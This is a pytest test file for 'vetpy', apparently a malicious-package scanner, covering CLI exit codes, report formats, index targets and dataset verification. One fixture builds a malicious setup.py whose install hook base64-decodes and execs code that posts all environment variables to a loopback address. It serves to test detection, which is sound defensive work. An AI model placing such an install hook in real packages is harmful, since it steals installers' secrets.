"""End to end through the CLI: exit codes, JSON/SARIF/text output, errors, index targets, dataset."""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from conftest import ArchiveBuilder, FakeIndex
from vetpy import __version__
from vetpy.cli.main import main

REPO = Path(__file__).resolve().parents[2]

PAYLOAD = (
    "import json, os, urllib.request\n"
    "urllib.request.urlopen('http://127.0.0.1:9/', data=json.dumps(dict(os.environ)).encode(), timeout=1)\n"
)

EVIL_SETUP = f'''import base64
from setuptools import setup
from setuptools.command.install import install

BLOB = "{base64.b64encode(PAYLOAD.encode()).decode()}"


class PostInstall(install):
    def run(self):
        exec(base64.b64decode(BLOB))
        install.run(self)


setup(name="evilpkg", version="1.0.0", packages=["evilpkg"], cmdclass={{"install": PostInstall}})
'''

GOOD_SETUP = """from setuptools import setup

setup(
    name="goodpkg",
    version="1.2.0",
    url="https://github.com/example/goodpkg",
    author="Jane Doe",
    author_email="jane@gmail.com",
    license="MIT",
    classifiers=["License :: OSI Approved :: MIT License"],
    packages=["goodpkg"],
)
"""

GOOD_CODE = '''"""Add numbers."""


def add(a: int, b: int) -> int:
    """Return the sum."""
    return a + b
'''


def pkg_info(name: str, version: str) -> str:
    return (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: a package\n"
        "Home-page: https://github.com/example/x\nAuthor: Jane Doe\nAuthor-email: jane@gmail.com\n"
        "License: MIT\nClassifier: License :: OSI Approved :: MIT License\n\nA package.\n"
    )


def good_files() -> dict[str, str]:
    return {
        "PKG-INFO": pkg_info("goodpkg", "1.2.0"),
        "setup.py": GOOD_SETUP,
        "LICENSE": "MIT License\n\nPermission is hereby granted, free of charge, to any person.\n",
        "goodpkg/__init__.py": GOOD_CODE,
    }


def evil_files() -> dict[str, str]:
    return {"PKG-INFO": pkg_info("evilpkg", "1.0.0"), "setup.py": EVIL_SETUP, "evilpkg/__init__.py": ""}


def sdist(
    build: ArchiveBuilder, name: str, version: str, files: dict[str, str], fmt: str = "tar.gz"
) -> bytes:
    return build({f"{name}-{version}/{path}": text.encode() for path, text in files.items()}, fmt)


@pytest.fixture
def good(tmp_path: Path, make_archive: ArchiveBuilder) -> Path:
    path = tmp_path / "goodpkg-1.2.0.tar.gz"
    path.write_bytes(sdist(make_archive, "goodpkg", "1.2.0", good_files()))
    return path


@pytest.fixture
def evil(tmp_path: Path, make_archive: ArchiveBuilder) -> Path:
    path = tmp_path / "evilpkg-1.0.0.tar.gz"
    path.write_bytes(sdist(make_archive, "evilpkg", "1.0.0", evil_files()))
    return path


@pytest.fixture
def corrupt(tmp_path: Path) -> Path:
    path = tmp_path / "broken-0.1.tar.gz"
    path.write_bytes(b"\x1f\x8b\x08\x00 truncated garbage, not a real gzip stream")
    return path


def scan_json(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
    code = main(["scan", "--format", "json", "--model", "rules", *args])
    return code, json.loads(capsys.readouterr().out)


def test_benign_package_exit_0(capsys: pytest.CaptureFixture[str], good: Path) -> None:
    code, doc = scan_json(capsys, str(good))
    assert code == 0
    assert doc["model"] == "rules" and doc["vetpy_version"] == __version__
    [result] = doc["results"]
    assert result["verdict"] == "benign" and result["error"] is None
    assert (result["name"], result["version"]) == ("goodpkg", "1.2.0")
    assert result["sha256"] == hashlib.sha256(good.read_bytes()).hexdigest()
    assert 0 <= result["score"] < result["threshold"] == 0.5
    assert result["seconds"] > 0


def test_install_hook_payload_flagged_exit_1(capsys: pytest.CaptureFixture[str], evil: Path) -> None:
    code, doc = scan_json(capsys, str(evil))
    assert code == 1
    [result] = doc["results"]
    assert result["verdict"] == "malicious" and result["score"] >= 0.5
    assert 1 <= len(result["reasons"]) <= 5
    features = {r["feature"] for r in result["reasons"]}
    assert features & {
        "install.cmdclass",
        "code.decode_exec",
        "paper.install_hook",
        "install.setup_suspicious",
    }
    located = [r for r in result["reasons"] if r["file"]]
    assert located and all(r["file"].endswith("setup.py") and r["line"] >= 1 for r in located)


def test_corrupt_file_is_a_one_line_error_exit_3(capsys: pytest.CaptureFixture[str], corrupt: Path) -> None:
    code, doc = scan_json(capsys, str(corrupt))
    assert code == 3
    [result] = doc["results"]
    assert result["verdict"] == "error" and result["score"] is None
    assert result["error"] and "\n" not in result["error"]


def test_batch_continues_past_corrupt(
    capsys: pytest.CaptureFixture[str], good: Path, evil: Path, corrupt: Path
) -> None:
    code, doc = scan_json(capsys, str(good), str(corrupt))
    assert code == 3
    assert [r["verdict"] for r in doc["results"]] == ["benign", "error"]
    code, doc = scan_json(capsys, str(corrupt), str(evil), str(good))
    assert code == 1
    assert [r["verdict"] for r in doc["results"]] == ["error", "malicious", "benign"]


def test_folder_target(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    root = tmp_path / "src" / "goodpkg-1.2.0"
    for path, text in good_files().items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    code, doc = scan_json(capsys, str(root))
    assert code == 0 and doc["results"][0]["verdict"] == "benign"


def test_threshold_flag(capsys: pytest.CaptureFixture[str], good: Path) -> None:
    code, doc = scan_json(capsys, "--threshold", "0", str(good))
    assert code == 1 and doc["results"][0]["threshold"] == 0.0


def test_sarif_and_output_file(tmp_path: Path, evil: Path, good: Path, corrupt: Path) -> None:
    out = tmp_path / "report.sarif"
    args = ["scan", "--model", "rules", "--format", "sarif", "--output", str(out)]
    assert main([*args, str(good), str(evil), str(corrupt)]) == 1
    doc = json.loads(out.read_text())
    assert doc["version"] == "2.1.0" and doc["runs"][0]["tool"]["driver"]["name"] == "vetpy"
    results = doc["runs"][0]["results"]
    assert results and all("evilpkg" in r["message"]["text"] for r in results)
    assert len(results) == 1  # one result per flagged package, its evidence as related locations
    assert results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "evilpkg-1.0.0.tar.gz"
    uris = {r["physicalLocation"]["artifactLocation"]["uri"] for r in results[0]["relatedLocations"]}
    assert "evilpkg-1.0.0.tar.gz/evilpkg-1.0.0/setup.py" in uris
    notes = doc["runs"][0]["invocations"][0]["toolExecutionNotifications"]
    assert len(notes) == 1 and "broken-0.1.tar.gz" in notes[0]["message"]["text"]


def test_text_report(capsys: pytest.CaptureFixture[str], evil: Path, corrupt: Path) -> None:
    assert main(["scan", "--model", "rules", str(evil), str(corrupt)]) == 1
    out = capsys.readouterr().out
    assert "evilpkg" in out and "malicious" in out and "error" in out
    assert "1 flagged malicious" in out


@pytest.mark.parametrize(
    "argv",
    [
        ["scan"],
        ["scan", "--format", "xml", "x.tar.gz"],
        ["scan", "--threshold", "1.5", "x.tar.gz"],
        ["scan", "--max-bytes", "-1", "x.tar.gz"],
        ["nosuchcommand"],
        [],
    ],
)
def test_usage_errors_exit_2(capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
    assert main(argv) == 2
    assert capsys.readouterr().err.strip()


def test_missing_model_exit_2(capsys: pytest.CaptureFixture[str], good: Path, tmp_path: Path) -> None:
    assert main(["scan", "--model", str(tmp_path / "none.skops"), str(good)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("vetpy: error: ") and err.count("\n") == 1


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--version"]) == 0
    assert capsys.readouterr().out.strip() == f"vetpy {__version__}"


def test_index_target_and_requirements(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    fake_index: FakeIndex,
    make_archive: ArchiveBuilder,
    tmp_path: Path,
) -> None:
    fake_index.add_file(
        "evilpkg", "evilpkg-1.0.0.tar.gz", sdist(make_archive, "evilpkg", "1.0.0", evil_files())
    )
    fake_index.add_file(
        "goodpkg", "goodpkg-1.2.0.tar.gz", sdist(make_archive, "goodpkg", "1.2.0", good_files())
    )
    monkeypatch.setenv("PIP_INDEX_URL", fake_index.url)
    code, doc = scan_json(capsys, "evilpkg==1.0.0")
    assert code == 1 and doc["results"][0]["verdict"] == "malicious"
    assert doc["results"][0]["name"] == "evilpkg"
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("goodpkg==1.2.0\n")
    code, doc = scan_json(capsys, "-r", str(requirements))
    assert code == 0 and [r["verdict"] for r in doc["results"]] == ["benign"]
    code, doc = scan_json(capsys, "nosuchproject==1.0")
    assert code == 3 and doc["results"][0]["verdict"] == "error"


def _benign_csv(data: Path, rows: list[tuple[str, str, bytes]]) -> None:
    data.mkdir(parents=True, exist_ok=True)
    fields = ["name", "version", "filename", "sha256", "size", "upload_time", "packagetype", "stratum"]
    with (data / "benign.csv").open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields)
        writer.writeheader()
        for name, version, blob in rows:
            writer.writerow(
                {
                    "name": name, "version": version, "filename": f"{name}-{version}.tar.gz",
                    "sha256": hashlib.sha256(blob).hexdigest(), "size": len(blob),
                    "upload_time": "2024-01-01", "packagetype": "sdist", "stratum": "popular",
                }
            )  # fmt: skip


def test_dataset_fetch_and_verify(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    fake_index: FakeIndex,
    make_archive: ArchiveBuilder,
    tmp_path: Path,
) -> None:
    blobs = [("goodpkg", "1.2.0", sdist(make_archive, "goodpkg", "1.2.0", good_files()))]
    blobs.append(("gone", "0.1", b"never served"))
    fake_index.add_file("goodpkg", "goodpkg-1.2.0.tar.gz", blobs[0][2])
    data = tmp_path / "data"
    _benign_csv(data, blobs)
    monkeypatch.setenv("PIP_INDEX_URL", fake_index.url)
    monkeypatch.setenv("VETPY_CACHE", str(tmp_path / "cache"))
    assert main(["dataset", "fetch", "--data", str(data), "--workers", "2"]) == 1  # one release is gone
    captured = capsys.readouterr()
    assert "1 of 2 releases" in captured.out and "1 failed" in captured.out
    assert "gone-0.1.tar.gz" in captured.err
    assert main(["dataset", "verify", "--data", str(data)]) == 1
    assert "1 of 2 cached and verified, 1 missing, 0 corrupt" in capsys.readouterr().out
    [cached] = (tmp_path / "cache").rglob("goodpkg-1.2.0.tar.gz")
    cached.write_bytes(b"tampered")
    assert main(["dataset", "verify", "--data", str(data)]) == 1
    assert "0 of 2 cached and verified, 1 missing, 1 corrupt" in capsys.readouterr().out


def test_console_script_scans_the_readme_example(tmp_path: Path) -> None:
    exe = shutil.which("vetpy", path=str(Path(sys.executable).parent)) or shutil.which("vetpy")
    assert exe, "the vetpy console script is not installed"
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    example = REPO / "examples" / "hello-0.1.0.tar.gz"
    proc = subprocess.run(
        [exe, "scan", "--format", "json", str(example)],
        capture_output=True, text=True, timeout=120, env=env, cwd=tmp_path, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    [result] = json.loads(proc.stdout)["results"]
    assert (result["name"], result["version"], result["verdict"]) == ("hello", "0.1.0", "benign")


def test_train_refuses_to_overwrite_the_bundled_model_with_an_ablation(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["train", "--model", "default-plain"]) == 2
    assert "give --out" in capsys.readouterr().err
